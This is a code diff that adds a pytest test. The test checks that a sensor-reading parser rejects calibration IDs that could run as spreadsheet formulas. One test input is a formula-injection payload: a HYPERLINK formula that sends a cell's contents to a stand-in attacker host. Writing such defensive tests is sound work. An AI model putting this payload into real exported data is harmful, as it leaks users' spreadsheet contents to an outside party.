@@ -251,6 +251,35 @@ def test_a_cal_id_that_looks_like_a_key_is_not_taken_for_one() -> None:
     assert reading.metrics["pm2_5"].cal == 'a12":"n":'  # type: ignore[index]
 
 
+@pytest.mark.parametrize(
+    ("cal", "ok"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', False),
+        ("+1+1", False),
+        ("-2+3", False),
+        ("@SUM(A1:A9)", False),
+        ("_x", False),
+        (".hidden", False),
+        ("'quoted", False),
+        ("pms5003-a12@2026-10-01", True),
+        ("örgöö-1", True),
+        ("2026-10-01", True),
+        ("a=b+c", True),  # only the first character can make a formula
+    ],
+)
+def test_a_cal_id_starts_with_a_letter_or_digit_so_no_spreadsheet_runs_it(cal: str, ok: bool) -> None:
+    doc = example()
+    doc["metrics"]["pm2_5"]["cal"] = cal
+    if ok:
+        assert parse_reading(TOPIC, encode(doc)).metrics["pm2_5"].cal == cal  # type: ignore[index]
+    else:
+        with pytest.raises(PayloadError) as caught:
+            parse_reading(TOPIC, encode(doc))
+        assert caught.value.reason == "invalid" and "metrics.pm2_5.cal" in caught.value.detail.replace(
+            "`", ""
+        )
+
+
 _JSON_VALUES = st.recursive(
     st.none()
     | st.booleans()
